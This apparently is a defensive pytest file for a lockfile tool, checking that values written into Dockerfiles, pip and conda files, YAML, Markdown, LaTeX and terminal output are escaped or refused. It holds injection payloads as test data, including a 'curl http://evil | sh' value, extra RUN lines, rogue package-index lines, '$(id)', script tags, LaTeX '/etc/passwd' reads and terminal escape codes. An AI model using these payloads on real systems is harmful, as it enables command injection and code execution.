@@ -1,0 +1,509 @@
+"""Hostile lock values against every sink: Dockerfile, requirements, shell, YAML, conda files, Markdown, LaTeX
+and the terminal (docs/security.md, "Sinks").
+
+Every lock here is a ``Snapshot`` built in Python, never read by ``lockfile.load``: the loader validates at the
+boundary, and each sink must be safe on its own. Each test failed on the code before the sinks were escaped.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import re
+import shutil
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from envsnap import _templates, bundle, lockfile, sinks
+from envsnap.errors import BundleError, ExportError, LockfileError, RebuildError
+from envsnap.export import appendix, conda_explicit, environment_yml, requirements
+from envsnap.export import dockerfile as dockerfile_export
+from envsnap.model import (
+    Artifact,
+    Conda,
+    CondaPackage,
+    Cpu,
+    Hardware,
+    Meta,
+    Platform,
+    PythonEnv,
+    PythonPackage,
+    Snapshot,
+    Source,
+    System,
+    SystemPackage,
+)
+from envsnap.rebuild import apt, docker
+from envsnap.rebuild import conda as conda_target
+from envsnap.rebuild.baseimage import ImageFacts
+from envsnap.rebuild.interface import Plan, PlanItem
+
+INJECTED = "\nRUN touch /pwned\n#"
+ESC = "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\\x1b[2J"
+
+
+def _wheel(name: str, version: str, digit: str) -> PythonPackage:
+    filename = f"{name.replace('-', '_')}-{version}-py3-none-any.whl"
+    return PythonPackage(
+        name=name,
+        version=version,
+        installer="pip",
+        artifact=Artifact(filename=filename, url=f"https://files.example/{filename}", sha256=digit * 64,
+                          index="https://pypi.org/simple"),
+    )
+
+
+def lock(**meta: Any) -> Snapshot:
+    """A small pinned CPU lock on Debian 12 (the docker target's default base: python:3.11.7-slim-bookworm)."""
+    snap = Snapshot(
+        envsnap=Meta(generator="envsnap 0.1.0", created="2026-01-02T03:04:05Z"),
+        platform=Platform(system="Linux", machine="x86_64", os_id="debian", os_version="12",
+                          os_name="Debian GNU/Linux 12 (bookworm)", libc="glibc", libc_version="2.36",
+                          kernel="6.1.0"),
+        python=PythonEnv(implementation="cpython", version="3.11.7", abi="cp311", kind="venv",
+                         packages=(_wheel("markupsafe", "3.0.2", "a"), _wheel("tomli-w", "1.2.0", "b"))),
+        system=System(manager="dpkg", packages=(
+            SystemPackage("dpkg", "libc6", "2.36-9+deb12u14", "amd64", ("markupsafe",)),)),
+        hardware=Hardware(cpu=Cpu(model="Some CPU", arch="x86_64", logical_cores=8)),
+    )
+    snap = lockfile.seal(snap)
+    return dataclasses.replace(snap, envsnap=dataclasses.replace(snap.envsnap, **meta)) if meta else snap
+
+
+def changed(snap: Snapshot, where: str, **values: Any) -> Snapshot:
+    """``snap`` with fields of one part replaced (``python``, ``platform``, ...), not resealed."""
+    return dataclasses.replace(snap, **{where: dataclasses.replace(getattr(snap, where), **values)})
+
+
+def with_package(snap: Snapshot, index: int, **values: Any) -> Snapshot:
+    packages = list(snap.python.packages)
+    packages[index] = dataclasses.replace(packages[index], **values)
+    return changed(snap, "python", packages=tuple(packages))
+
+
+def one_line_error(exc: pytest.ExceptionInfo[BaseException]) -> str:
+    message = str(exc.value)
+    assert "\n" not in message and "\x1b" not in message, message
+    return message
+
+
+# ------------------------------------------------------------------------------------------- Dockerfile
+
+
+def instructions(text: str) -> list[tuple[str, str]]:
+    """A Dockerfile as Docker's parser reads it: comments dropped, continuations joined, one entry per
+    instruction (its keyword and its arguments)."""
+    out: list[tuple[str, str]] = []
+    pending = ""
+    for raw in text.split("\n"):
+        if not pending and (not raw.strip() or raw.lstrip().startswith("#")):
+            continue
+        if pending and raw.lstrip().startswith("#"):
+            continue
+        line = pending + raw
+        if line.endswith("\\"):
+            pending = line[:-1]
+            continue
+        pending = ""
+        keyword, _, args = line.strip().partition(" ")
+        out.append((keyword.upper(), args))
+    return out
+
+
+def render(snap: Snapshot, **options: Any) -> str:
+    inspect = options.pop("inspect", None)
+    return docker.render_dockerfile(docker.make_spec(snap, docker.DockerOptions(**options), inspect))
+
+
+def test_the_clean_lock_renders_the_expected_instructions() -> None:
+    # The reference the hostile cases are compared with.
+    keywords = [k for k, _ in instructions(render(lock()))]
+    assert keywords == ["FROM", "ARG", "ENV", "LABEL", "RUN", "COPY", "COPY", "RUN", "COPY", "COPY", "RUN", "ENV",
+                        "RUN"]
+
+
+@pytest.mark.parametrize("created", [
+    "2026-01-02T03:04:05Z" + '"' + INJECTED,  # the attack of issue 11: a standalone RUN line
+    "2026-01-02T03:04:05Z\r\nRUN id",
+])
+def test_created_with_a_newline_is_refused(created: str) -> None:
+    with pytest.raises(RebuildError) as exc:
+        render(lock(created=created))
+    assert "control character" in one_line_error(exc)
+
+
+def test_label_values_are_quoted_so_nothing_expands() -> None:
+    text = render(lock(created='2026"$HOME\\x`'))
+    (label,) = [args for keyword, args in instructions(text) if keyword == "LABEL"]
+    assert 'org.opencontainers.image.created="2026\\"\\$HOME\\\\x`"' in label
+    assert [k for k, _ in instructions(text)] == [k for k, _ in instructions(render(lock()))]
+
+
+def test_comments_never_end_early() -> None:
+    text = render(changed(lock(), "python", kind="venv" + INJECTED))  # rendered in a "# Note:" comment
+    assert [k for k, _ in instructions(text)] == [k for k, _ in instructions(render(lock()))]
+    assert not any(line.startswith("RUN touch") for line in text.splitlines())
+
+
+@pytest.mark.parametrize("version", ["3.11.7" + INJECTED, "3.11.7-slim-bookworm AS x", "3.11.7 --platform=x"])
+def test_python_version_cannot_reach_from(version: str) -> None:
+    with pytest.raises(RebuildError) as exc:
+        render(changed(lock(), "python", version=version))
+    assert "FROM" in one_line_error(exc) or "control character" in str(exc.value)
+
+
+@pytest.mark.parametrize("image_id", ["sha256:" + "1" * 64 + INJECTED, "busybox" + INJECTED,
+                                      "sha256:" + "1" * 64 + " AS base"])
+def test_a_bundled_image_id_is_checked_before_from(image_id: str) -> None:
+    # images/*.json's id becomes the pin of a base image that has no registry digest.
+    facts = ImageFacts(image_id=image_id, architecture="amd64")
+    with pytest.raises(RebuildError) as exc:
+        render(lock(), base_image="envsnap-base:bookworm", inspect=lambda ref: facts)
+    one_line_error(exc)
+
+
+def test_a_repo_digest_is_checked_before_from() -> None:
+    facts = ImageFacts(image_id="sha256:" + "1" * 64,
+                       repo_digests=("python@sha256:" + "2" * 64 + INJECTED,), architecture="amd64")
+    with pytest.raises(RebuildError):
+        render(lock(), inspect=lambda ref: facts)
+
+
+@pytest.mark.parametrize("name,version,arch", [
+    ("libc6", "2.36-9\n", "amd64"),  # `$` matched before a trailing newline
+    ("libc6\n", "2.36-9", "amd64"),
+    ("libc6", "2.36-9", "amd64\n"),
+])
+def test_apt_pins_refuse_a_trailing_newline(name: str, version: str, arch: str) -> None:
+    with pytest.raises(RebuildError):
+        apt.pins((SystemPackage("dpkg", name, version, arch, ("markupsafe",)),), "x86_64")
+
+
+def test_the_dockerfile_export_refuses_too() -> None:
+    with pytest.raises(ExportError) as exc:
+        dockerfile_export.render(lock(created="x" + INJECTED))
+    one_line_error(exc)
+
+
+def test_dockerfile_filters_hold_on_their_own() -> None:
+    env = _templates.environment("dockerfile")
+    # An unfiltered value with a newline is refused by the format's default, not written.
+    with pytest.raises(sinks.UnsafeValue):
+        env.from_string("LABEL a={{ value }}\n").render(value="x\nRUN id")
+    assert env.from_string("RUN {{ v | shell_word }}").render(v="a b; c") == "RUN 'a b; c'"
+    assert env.from_string("RUN {{ v | shell_single }}").render(v="it's") == "RUN 'it'\"'\"'s'"
+    assert env.from_string("FROM {{ v | dockerfile_from }}").render(v="python:3.11-slim") == "FROM python:3.11-slim"
+    # |safe marks nothing: the default still applies.
+    with pytest.raises(sinks.UnsafeValue):
+        env.from_string("RUN {{ v | safe }}").render(v="x\nRUN id")
+
+
+# ------------------------------------------------------------------------------------ requirements files
+
+FIND_LINKS = "1.0\n--find-links http://127.0.0.1:9/\nevilpkg==1.0 --hash=sha256:" + "e" * 64
+
+
+def test_bundle_requirements_refuse_a_version_with_lines() -> None:
+    with pytest.raises(BundleError) as exc:
+        bundle.requirements_text(with_package(lock(), 0, version=FIND_LINKS))
+    one_line_error(exc)
+
+
+@pytest.mark.parametrize("part,value", [
+    ("version", FIND_LINKS),
+    ("name", "markupsafe\n--find-links http://127.0.0.1:9/"),
+    ("sha256", "a" * 64 + "\nevilpkg==1.0"),
+    ("url", "https://files.example/x.whl\n--find-links http://127.0.0.1:9/"),
+    ("index", "https://pypi.org/simple\n--find-links http://127.0.0.1:9/"),
+])
+def test_requirements_export_refuses_injected_lines(part: str, value: str) -> None:
+    snap = lock()
+    pkg = snap.python.packages[0]
+    assert pkg.artifact is not None
+    if part in ("version", "name"):
+        snap = with_package(snap, 0, **{part: value})
+    elif part == "url":  # known by URL only: written as `name @ URL`
+        snap = with_package(snap, 0, artifact=dataclasses.replace(pkg.artifact, url=value, index=""))
+    else:
+        snap = with_package(snap, 0, artifact=dataclasses.replace(pkg.artifact, **{part: value}))
+    with pytest.raises(ExportError) as exc:
+        requirements.dumps(snap)
+    one_line_error(exc)
+
+
+def test_requirements_comment_commands_cannot_end_the_comment() -> None:
+    src = Source(kind="directory", url="file://{project}/proj\nevilpkg==1.0", editable=True)
+    snap = with_package(lock(), 1, source=src, artifact=None)
+    with pytest.raises(ExportError):
+        requirements.dumps(snap)
+
+
+def test_valid_requirements_still_render() -> None:
+    text = requirements.dumps(lock())
+    assert "markupsafe==3.0.2 \\\n    --hash=sha256:" + "a" * 64 in text
+
+
+# ------------------------------------------------------------------------------------ YAML and conda files
+
+
+def conda_lock_snapshot(**package: str) -> Snapshot:
+    values = {"name": "zlib", "version": "1.3.1", "build": "h4ab18f5_1", "channel": "https://conda.anaconda.org/c",
+              "subdir": "linux-64", "url": "https://conda.anaconda.org/c/linux-64/zlib-1.3.1-h4ab18f5_1.conda",
+              "md5": "0" * 32, "sha256": "1" * 64} | package
+    pkg = CondaPackage(**values)  # type: ignore[arg-type]
+    return dataclasses.replace(lock(), conda=Conda(subdir="linux-64", channels=("https://conda.anaconda.org/c",),
+                                                   packages=(pkg,)))
+
+
+@pytest.mark.parametrize("field,value", [
+    ("url", "https://conda.anaconda.org/c/linux-64/zlib.conda\nhttps://evil.example/evil.conda"),
+    ("md5", "0" * 32 + "\nhttps://evil.example/evil.conda"),
+    ("url", "https://conda.anaconda.org/c/linux-64/zlib.conda#" + "f" * 32),
+])
+def test_conda_explicit_refuses_line_injection(field: str, value: str) -> None:
+    with pytest.raises(ExportError) as exc:
+        conda_explicit.dumps(conda_lock_snapshot(**{field: value}))
+    one_line_error(exc)
+
+
+def test_conda_explicit_subdir_cannot_add_a_line() -> None:
+    snap = conda_lock_snapshot()
+    assert snap.conda is not None
+    hostile = dataclasses.replace(snap, conda=dataclasses.replace(
+        snap.conda, subdir="linux-64\nhttps://evil.example/evil.conda"))
+    with pytest.raises(ExportError):
+        conda_explicit.dumps(hostile)
+
+
+def test_conda_explicit_still_renders_a_valid_lock() -> None:
+    text = conda_explicit.dumps(conda_lock_snapshot())
+    assert "# platform: linux-64\n@EXPLICIT\n" in text
+    assert text.rstrip("\n").endswith("zlib-1.3.1-h4ab18f5_1.conda#" + "0" * 32)
+
+
+def test_environment_yml_pip_lines_are_checked_for_pip() -> None:
+    # conda writes the pip: section to a requirements file for pip: JSON quoting in YAML is not enough.
+    snap = with_package(conda_lock_snapshot(), 0, version=FIND_LINKS)
+    with pytest.raises(ExportError) as exc:
+        environment_yml.dumps(snap)
+    one_line_error(exc)
+
+
+def test_environment_yml_comment_cannot_end_early() -> None:
+    snap = conda_lock_snapshot()
+    hostile = dataclasses.replace(snap, envsnap=dataclasses.replace(
+        snap.envsnap, content_digest="sha256:x\ndependencies: [evil]"))
+    text = environment_yml.dumps(hostile)
+    assert "\ndependencies: [evil]" not in text
+    assert [line for line in text.splitlines() if line.startswith("dependencies")] == ["dependencies:"]
+
+
+def test_the_conda_targets_explicit_file_refuses_a_bad_subdir(tmp_path: Path) -> None:
+    snap = conda_lock_snapshot()
+    assert snap.conda is not None
+    archive = tmp_path / "zlib-1.3.1-h4ab18f5_1.conda"
+    hostile = dataclasses.replace(snap.conda, subdir="linux-64\nhttps://evil.example/evil.conda")
+    with pytest.raises(RebuildError):
+        conda_target.explicit_text(hostile, {"zlib": archive})
+
+
+# ---------------------------------------------------------------------------------------------- Markdown
+
+
+def markdown(snap: Snapshot) -> str:
+    return appendix.render_markdown(snap)["appendix.md"].decode()
+
+
+HEADINGS = ["## Software and hardware environment", "### Python packages (2)", "### Reproducing this environment"]
+
+
+def test_a_newline_in_a_field_injects_no_heading_or_row() -> None:
+    hostile = changed(lock(), "platform", kernel="6.1\n# Owned\n[x](http://evil)", os_name="Debian\n| a | b |")
+    text = markdown(hostile)
+    assert [line for line in text.splitlines() if line.startswith("#")] == HEADINGS
+    assert not any(line.startswith("| a |") for line in text.splitlines())
+
+
+@pytest.mark.parametrize("field", ["created", "generator"])
+def test_created_and_generator_pass_no_html_or_link(field: str) -> None:
+    text = markdown(lock(**{field: "<script>alert(1)</script> [x](http://evil) <http://evil> ![i](http://evil/i)"}))
+    assert "<script>" not in text and "](http://evil" not in text.replace("\\](http://evil", "")
+    assert "\\<script\\>" in text and "\\[x\\](http://evil)" in text and "\\<http://evil\\>" in text
+
+
+def test_the_digest_code_span_cannot_be_closed() -> None:
+    hostile = lock(content_digest="sha256:` <script>x</script> `")
+    text = markdown(hostile)
+    assert "content digest `` sha256:` <script>x</script> ` ``." in text
+
+
+def test_the_bundle_readme_quotes_shell_lines_and_markdown() -> None:
+    snap = changed(lock(), "python", version="3.11; curl http://evil | sh #.7")
+    snap = dataclasses.replace(snap, envsnap=dataclasses.replace(snap.envsnap, generator="x\n# Owned"))
+    text = _templates.render("bundle/README.md.j2", lock=snap, packages=list(snap.python.packages),
+                             conda_archives=[])
+    assert "    'python3.11; curl http://evil | sh #' -m venv ./env" in text
+    assert not any(line.startswith("# Owned") for line in text.splitlines())
+    conda = _templates.render("bundle/README.md.j2", lock=snap, packages=[],
+                              conda_archives=['a"$(id)`x`.conda'])
+    assert '"file://$PWD/conda/a\\"\\$(id)\\`x\\`.conda"' in conda
+
+
+# ------------------------------------------------------------------------------------------------- LaTeX
+
+
+def latex(snap: Snapshot) -> str:
+    return appendix.render_latex(snap)["appendix.tex"].decode()
+
+
+def test_latex_comment_and_fields_cannot_inject_commands() -> None:
+    hostile = changed(lock(content_digest="sha256:x\n\\input{/etc/passwd}"), "platform",
+                      kernel="6.1\n\\immediate\\write18{id}")
+    text = latex(hostile)
+    assert "\\input{/etc/passwd}" not in text and "\\immediate\\write18" not in text
+    assert not any(line.startswith("\\input") for line in text.splitlines())
+
+
+def test_double_hyphens_are_never_a_ligature_in_the_source() -> None:
+    text = latex(lock(generator="pip --offline"))
+    assert "pip -{}-offline" in text
+    code = [m.group(0) for m in re.finditer(r"\\texttt\{[^}]*(?:\{\}[^}]*)*\}", text)]
+    assert code and not any("--" in c for c in code), code
+    body = [line for line in text.splitlines() if not line.startswith("%")]
+    assert not any("--" in line for line in body)
+
+
+def _pdf_text(pdf: bytes) -> str:
+    """The strings of an uncompressed PDF's text operators, kerning dropped (T1: 0x15 is an en dash)."""
+    out = []
+    for m in re.finditer(rb"\[((?:[^\]\\]|\\.)*)\]\s*TJ|\(((?:[^)\\]|\\.)*)\)\s*Tj", pdf):
+        if m.group(1) is not None:
+            out.append(b"".join(re.findall(rb"\(((?:[^)\\]|\\.)*)\)", m.group(1))))
+        else:
+            out.append(m.group(2))
+    return b" ".join(out).decode("latin-1").replace("\\025", "\N{EN DASH}").replace("\\(", "(").replace("\\)", ")")
+
+
+@pytest.mark.integration
+@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex is not installed")
+def test_double_hyphens_survive_t1_fontenc(tmp_path: Path) -> None:
+    snap = lock(generator="pip --no-deps")  # (roman type: "offline" would hold an ffl ligature)
+    (tmp_path / "appendix.tex").write_text(latex(snap), encoding="utf-8")
+    (tmp_path / "paper.tex").write_text(
+        "\\pdfcompresslevel=0\n\\pdfobjcompresslevel=0\n\\documentclass{article}\n\\usepackage[T1]{fontenc}\n"
+        "\\usepackage{booktabs}\n\\usepackage{longtable}\n\\begin{document}\n\\input{appendix}\n"
+        "\\texttt{bad --control}\n\\end{document}\n", encoding="utf-8")
+    result = subprocess.run(["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "paper.tex"],
+                            cwd=tmp_path, capture_output=True, text=True, timeout=120)
+    assert result.returncode == 0, result.stdout[-2000:]
+    text = _pdf_text((tmp_path / "paper.pdf").read_bytes())
+    assert "\N{EN DASH}control" in text  # the check sees the ligature T1 makes of a raw "--"
+    flat = text.replace(" ", "")
+    assert "pip--no-deps" in flat  # a lock value, in roman type
+    assert "pipinstall--require-hashes--no-deps" in flat  # the template's commands, in typewriter type
+    assert "\N{EN DASH}" not in text.replace("\N{EN DASH}control", "")
+
+
+# ---------------------------------------------------------------------------------------------- terminal
+
+MARKUP = "[link=http://x]click[/link]"
+
+
+@pytest.fixture
+def wide(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("COLUMNS", "400")
+
+
+def hostile_terminal_lock() -> Snapshot:
+    snap = changed(lock(), "platform", machine="x86_64[/]", os_name="Debian " + MARKUP, kernel="6.1" + ESC)
+    return changed(snap, "hardware", cpu=Cpu(model="CPU " + MARKUP, arch="x86_64[/]", logical_cores=8))
+
+
+def loads(monkeypatch: pytest.MonkeyPatch, snaps: dict[str, Snapshot]) -> None:
+    monkeypatch.setattr(lockfile, "load", lambda path, *a, **k: snaps[str(path)])
+
+
+def assert_literal(out: str) -> None:
+    assert "\x1b" not in out and "\x9b" not in out
+    assert MARKUP in out and "x86_64[/]" in out
+
+
+def test_show_prints_markup_literally(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, wide: None) -> None:
+    loads(monkeypatch, {"x.lock": hostile_terminal_lock()})
+    result = cli("show", "x.lock")
+    assert result.code == 0, result
+    assert_literal(result.out)
+
+
+def test_check_prints_markup_literally(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, wide: None) -> None:
+    loads(monkeypatch, {"x.lock": hostile_terminal_lock()})
+    result = cli("check", "x.lock")
+    assert result.code in (0, 1, 3), result
+    assert "\x1b" not in result.out and "x86_64[/]" in result.out
+
+
+def test_diff_strips_control_characters(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch,
+                                        wide: None) -> None:
+    a = lock()
+    b = with_package(a, 0, version="3.0.3" + ESC + MARKUP)
+    loads(monkeypatch, {"a.lock": a, "b.lock": b})
+    result = cli("diff", "a.lock", "b.lock")
+    assert result.code == 1, result
+    assert "\x1b" not in result.out and MARKUP in result.out
+
+
+def test_errors_from_lock_data_reach_the_terminal_without_control_codes(
+        cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch) -> None:
+    def load(path: str, *args: Any, **kwargs: Any) -> Snapshot:
+        raise LockfileError(f"{path}: bad name 'x{ESC}'")
+
+    monkeypatch.setattr(lockfile, "load", load)
+    result = cli("show", "x.lock")
+    assert result.code == 2
+    assert "\x1b" not in result.err and result.err.count("\n") == 1
+
+
+def test_a_rebuild_plan_is_printed_without_control_codes(cli: Callable[..., Any],
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    from envsnap.cli import rebuild as rebuild_cli
+
+    plan = Plan(target="venv", lock_path="x.lock", dest="env", notes=("note " + ESC + MARKUP,),
+                items=(PlanItem("python", "pkg" + ESC, "1.0"),), details={"Dockerfile": "FROM x\nRUN " + ESC})
+    monkeypatch.setattr(rebuild_cli, "rebuild", lambda *a, **k: plan)
+    result = cli("rebuild", "x.lock", "--dry-run")
+    assert result.code == 0, result
+    assert "\x1b" not in result.out and MARKUP in result.out and "    | RUN " in result.out
+
+
+def test_rich_progress_lines_are_text(capsys: pytest.CaptureFixture[str], wide: None) -> None:
+    from envsnap.cli import _output
+
+    err = _output.stderr()
+    err.print("building x86_64[/] " + MARKUP + ESC)  # a plain string: the console's own net
+    err.print(_output.text("wheel " + MARKUP + ESC))
+    captured = capsys.readouterr().err
+    assert "\x1b" not in captured and captured.count(MARKUP) == 2 and "x86_64[/]" in captured
+
+
+def test_import_warnings_are_text(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
+                                  wide: None) -> None:
+    from envsnap import importers
+
+    snap = lock(warnings=(MARKUP + ESC,))
+    monkeypatch.setattr(importers, "read_file", lambda *a, **k: snap)
+    result = cli("import", "x.txt", "-o", str(tmp_path / "out.lock"))
+    assert result.code == 0, result
+    assert MARKUP in result.err and "\x1b" not in result.err
+
+
+def test_json_output_escapes_c1_controls(capsys: pytest.CaptureFixture[str]) -> None:
+    from envsnap.cli import _output
+
+    _output.print_json({"name": "x\x9b31mred\x7f"})
+    out = capsys.readouterr().out
+    assert "\x9b" not in out and "\x7f" not in out
+    assert json.loads(out) == {"name": "x\x9b31mred\x7f"}
